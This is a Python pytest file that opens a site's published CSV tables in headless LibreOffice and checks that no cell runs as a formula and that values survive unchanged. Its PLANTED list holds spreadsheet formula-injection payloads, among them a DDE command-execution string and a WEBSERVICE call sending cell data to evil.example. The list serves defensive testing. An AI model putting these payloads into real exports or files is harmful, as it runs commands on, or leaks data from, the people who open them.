"""Published tables opened in LibreOffice: no cell runs, and every value is the one that was published."""

from __future__ import annotations

import csv
import os
import re
import shutil
import subprocess
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import date, timedelta
from decimal import Decimal, InvalidOperation
from pathlib import Path
from zipfile import ZipFile

import pytest
from defusedxml import ElementTree

from builders import book, charter, promise, result
from charters.model.cells import runs
from charters.publishing.data.exports import as_csv, datasets

SHEET = {"s": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
COMMAS = "CSV:44,34,76,1"
"""Commas part cells, quotes hold them together, UTF-8, from the first line."""
NO_COMMAS = "CSV:59/9,,76,1"
"""As where the comma is in numbers: semicolons and tabs part cells, and no quotes hold them together."""

PLANTED = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    "  =1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\t=1+1",
    "\r=1+1",
    "one\n=1+1",
    "one\r\n=1+1\r\n@SUM(1)",
    "one\n--|--",
    "one\n  =1+1",
    "one\n\n=1+1",
    "one\t=1+1",
    "one;=1+1;two",
    "one; =1+1",
    '=HYPERLINK("https://evil.example","Call us")',
    '"=1+1"',
    '"\n=1+1',
    "=cmd|' /C calc'!A0",
    '=WEBSERVICE("https://evil.example/"&A1)',
    "'=1+1",
    "one = two - three",
    "one, =1+1",
    "5 < 6",
    "0x1F and \u00fc",
    "\u0646\u0639\u0645 =1",
]  # fmt: skip
UNGUARDED = "unguarded.csv"


@dataclass(frozen=True)
class Opened:
    """A table as LibreOffice holds it."""

    cells: dict[tuple[int, int], str | Decimal]
    """Text or number by row and column, from 1."""
    formulas: tuple[str, ...]


@pytest.fixture(scope="session")
def tables(built_site: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Return a folder with all that a whole site publishes, and with what an attacker would."""
    folder = tmp_path_factory.mktemp("tables")
    for table in (built_site / "data").glob("*.csv"):
        shutil.copy(table, folder)
    rows = [result("2025", 9, 10, line=n, note=text) for n, text in enumerate(PLANTED)]
    notes = book(charter([promise()], rows))
    (planted,) = [as_csv(table) for table in datasets(notes) if table.name == "results"]
    (folder / "planted.csv").write_text(planted, encoding="utf-8", newline="")
    with (folder / UNGUARDED).open("w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows([text] for text in PLANTED)
    return folder


def office() -> str:
    for name in (os.environ.get("CHARTERS_OFFICE", ""), "soffice", "libreoffice"):
        if found := name and shutil.which(name):
            return found
    pytest.fail(
        "LibreOffice Calc is missing; install it (Debian: apt-get install libreoffice-calc-nogui) "
        "or name it: CHARTERS_OFFICE=/path/to/soffice",
        pytrace=False,
    )


def opened(tables: Path, folder: Path, how: str) -> dict[str, Opened]:
    """Open every table the way a person would, and return what was in it."""
    command = [
        *(office(), "--headless", f"-env:UserInstallation={(folder / 'profile').as_uri()}"),
        *("--convert-to", "xlsx", "--infilter=" + how, "--outdir", str(folder)),
        *map(str, sorted(tables.glob("*.csv"))),
    ]
    done = subprocess.run(command, capture_output=True, text=True, timeout=120, check=False)
    found = {f"{path.stem}.csv": read_back(path) for path in folder.glob("*.xlsx")}
    assert sorted(found) == sorted(path.name for path in tables.glob("*.csv")), done.stderr
    return found


@pytest.fixture(scope="session")
def with_commas(tables: Path, tmp_path_factory: pytest.TempPathFactory) -> dict[str, Opened]:
    return opened(tables, tmp_path_factory.mktemp("commas"), COMMAS)


@pytest.fixture(scope="session")
def without_commas(tables: Path, tmp_path_factory: pytest.TempPathFactory) -> dict[str, Opened]:
    return opened(tables, tmp_path_factory.mktemp("semicolons"), NO_COMMAS)


def read_back(path: Path) -> Opened:
    with ZipFile(path) as book:
        strings = ElementTree.fromstring(book.read("xl/sharedStrings.xml"))
        sheet = ElementTree.fromstring(book.read("xl/worksheets/sheet1.xml"))
    texts = ["".join(found.itertext()) for found in strings.findall("s:si", SHEET)]
    cells: dict[tuple[int, int], str | Decimal] = {}
    for cell in sheet.iterfind(".//s:c", SHEET):
        value = cell.findtext("s:v", None, SHEET)
        if value is not None and cell.find("s:f", SHEET) is None:
            kind = cell.get("t")
            cells[place_of(cell.get("r"))] = texts[int(value)] if kind == "s" else Decimal(value)
    return Opened(cells, tuple(found.text or "" for found in sheet.iterfind(".//s:f", SHEET)))


def place_of(name: str) -> tuple[int, int]:
    letters, row = re.fullmatch(r"([A-Z]+)(\d+)", name).groups()  # type: ignore[union-attr]
    column = 0
    for letter in letters:
        column = column * 26 + ord(letter) - ord("A") + 1
    return int(row), column


def written(path: Path) -> Iterator[tuple[tuple[int, int], str]]:
    with path.open(encoding="utf-8", newline="") as file:
        for row, cells in enumerate(csv.reader(file), 1):
            yield from (((row, column), text) for column, text in enumerate(cells, 1) if text)


def says(text: str, found: str | Decimal | None) -> bool:
    """Return whether a cell holds what was published, be it as a number or as a day."""
    if isinstance(found, str):
        return found == re.sub(r"\r\n?", "\n", text)
    if found is None:
        return False
    try:
        number = Decimal(text.removesuffix("%")) / (100 if text.endswith("%") else 1)
    except InvalidOperation:
        return date.fromisoformat(text) == date(1899, 12, 30) + timedelta(int(found))
    return number == found


def test_an_unguarded_table_would_run(with_commas: dict[str, Opened]) -> None:
    assert len(with_commas[UNGUARDED].formulas) >= 4


def test_an_unguarded_table_would_run_line_by_line(without_commas: dict[str, Opened]) -> None:
    ran = without_commas[UNGUARDED].formulas
    assert len(ran) >= 10


def test_no_cell_of_a_published_table_runs(with_commas: dict[str, Opened]) -> None:
    assert {
        name: table.formulas for name, table in with_commas.items() if table.formulas
    }.keys() == {UNGUARDED}


def test_no_line_or_piece_of_a_published_table_runs(without_commas: dict[str, Opened]) -> None:
    ran = {name: table.formulas for name, table in without_commas.items() if table.formulas}
    assert ran.keys() == {UNGUARDED}


def test_every_value_reads_back_as_it_was_published(
    tables: Path, with_commas: dict[str, Opened]
) -> None:
    published = [path for path in tables.glob("*.csv") if path.name != UNGUARDED]
    wrong = [
        (path.name, place, text, with_commas[path.name].cells.get(place))
        for path in published
        for place, text in written(path)
        if not says(text, with_commas[path.name].cells.get(place))
    ]
    assert len(published) > 7
    assert wrong == []


def test_planted_words_are_all_there(tables: Path) -> None:
    texts = [text for _, text in written(tables / "planted.csv")]
    assert [text for text in PLANTED if not any(plain(text) in plain(one) for one in texts)] == []
    assert [text for text in texts if runs(text)] == []


def plain(text: str) -> str:
    return text.replace("'", "")
